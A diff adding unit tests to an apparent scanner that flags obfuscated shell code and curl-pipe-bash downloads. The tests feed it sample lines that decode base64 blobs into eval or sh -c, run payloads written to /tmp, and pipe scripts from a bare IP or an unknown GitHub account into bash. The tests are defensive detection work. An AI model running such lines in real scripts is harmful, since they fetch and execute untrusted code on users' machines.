@@ -1217,6 +1217,31 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('scripts/release.sh', ['echo "$GPG_PRIVATE_KEY" | base64 --decode | gpg --batch --import', 'eval $(gpg-agent --daemon --allow-preset-passphrase)'])).toEqual([]);
     expect(ids('scripts/ci-setup.sh', ['echo "$KEYSTORE_B64" | base64 -d > app/release.jks', 'eval "$(./gradlew -q printVersionEnv)"'])).toEqual([]);
   });
+  it('is quiet on a CI script that decodes a certificate or key and, on another line, evals a tool\'s output that is not it', () => {
+    expect(ids('scripts/ci.sh', ['echo "$CA_CERT_B64" | base64 -d > ca.pem', 'eval "$(ssh-agent -s)"'])).toEqual([]);
+    expect(ids('scripts/ci.sh', ['echo "$CA_CERT_B64" | base64 -d > ca.pem', 'eval "$(pyenv init -)"'])).toEqual([]);
+    // A deploy key decoded, made private (chmod 600 sets no execute bit: it runs nothing), and added to the agent.
+    expect(ids('scripts/deploy.sh', ['base64 -d <<< "$DEPLOY_KEY" > ~/.ssh/id_ed25519', 'chmod 600 ~/.ssh/id_ed25519', 'eval `ssh-agent -s`', 'ssh-add ~/.ssh/id_ed25519'])).toEqual([]);
+    // Decoded to standard output (a log, a check) with no variable, function or open substitution to catch it.
+    expect(ids('scripts/ci.sh', ['printf %s "$SIGNING_KEY" | base64 -d', 'eval "$(./bin/setup-env)"'])).toEqual([]);
+    // Written to a file by the decoder's own option, not a redirect: that file is what a sink must read.
+    expect(ids('scripts/ci.sh', ['base64 --decode -i "$RUNNER_TEMP/cert.b64" -o cert.p12', 'eval "$(./tool env)"'])).toEqual([]);
+    expect(ids('scripts/ci.sh', ['echo "$P12_B64" | base64 --decode --output cert.p12', 'eval "$(./tool env)"'])).toEqual([]);
+    expect(ids('scripts/ci.sh', ['xxd -r -p key.hex key.bin', 'eval "$(./tool env)"'])).toEqual([]);
+  });
+  it('reports an eval, sh -c or source that gets what a decode printed, or the file a decoder wrote by its own option', () => {
+    // Printed inside a substitution spread over lines, or a function the hunk defines.
+    expect(ids('scripts/setup.sh', ['P=$(', '  echo "$BLOB" | base64 -d', ')', 'eval "$P"'])).toEqual(['high:14']);
+    expect(ids('scripts/setup.sh', ['eval "$(', '  echo "$BLOB" | base64 -d', ')"'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['decode() {', '  echo "$1" | base64 -d', '}', 'eval "$(decode "$BLOB")"'])).toEqual(['high:14']);
+    expect(ids('scripts/setup.sh', ['function unpack {', '  base64 --decode <<< "$1"', '}', 'sh -c "$(unpack stage)"'])).toEqual(['high:14']);
+    // Written by the decoder's option, then run or evaluated.
+    expect(ids('scripts/setup.sh', ['base64 -d -o /tmp/s.sh payload.b64', 'bash /tmp/s.sh'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['xxd -r -p stage.hex /tmp/stage', 'source /tmp/stage'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['echo "$CERT" | base64 -d > ca.pem', 'eval "$(cat ca.pem)"'])).toEqual(['high:12']);
+    // Made executable with a mode that sets an execute bit.
+    expect(ids('scripts/setup.sh', ['base64 -d <<< "$B" > /tmp/x', 'chmod 0755 /tmp/x'])).toEqual(['high:12']);
+  });
   it('reports eval, sh -c or source of a command substitution that unpacks or decodes a test file (the xz-utils stage without a pipe)', () => {
     expect(ids('tests/run.sh', ['eval "$(dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d)"'])).toEqual(['high:11']);
     expect(ids('tests/run.sh', ['dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d | sh'])).toEqual(['high:11']);
@@ -3556,6 +3581,12 @@ describe('curl-pipe-shell in program code: a command string that downloads a scr
     expect(severityOf('tools/release/main.go', ['\texec.Command("sh", "-c", "curl -sSfL https://goreleaser.com/static/run | bash -s -- release").Run()'])).toBe('medium');
     // From a bare IP address, a script folder does not help.
     expect(severityOf('scripts/provision.py', ['subprocess.run(["bash", "-c", "curl -fsSL http://45.77.12.9/x | bash"])'])).toBe('critical');
+  });
+  it("on raw.githubusercontent.com or github.com, only a listed tool's own repository is a well-known installer, not any account's", () => {
+    expect(severityOf('src/commands/setup.ts', ["  execSync('curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash', { stdio: 'inherit' });"])).toBe('medium');
+    expect(severityOf('src/commands/setup.ts', ["  execSync('/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"');"])).toBe('medium');
+    expect(severityOf('src/commands/setup.ts', ["  execSync('curl -fsSL https://raw.githubusercontent.com/devtool-helper/bootstrap/main/setup.sh | bash', { stdio: 'inherit' });"])).toBe('high');
+    expect(severityOf('pkg/boot.py', ['subprocess.run(["bash", "-c", "curl -fsSL https://github.com/devtool-helper/bootstrap/raw/main/setup.sh | bash"])'])).toBe('high');
   });
   it('an install hint printed, or a command in a hunk that runs another, is not reported; shell scripts are read by their own reader', () => {
     expect(severityOf('src/doctor.ts', ["  console.log('Install bun: curl -fsSL https://bun.sh/install | bash');", "  execSync('bun --version');"])).toBeUndefined();
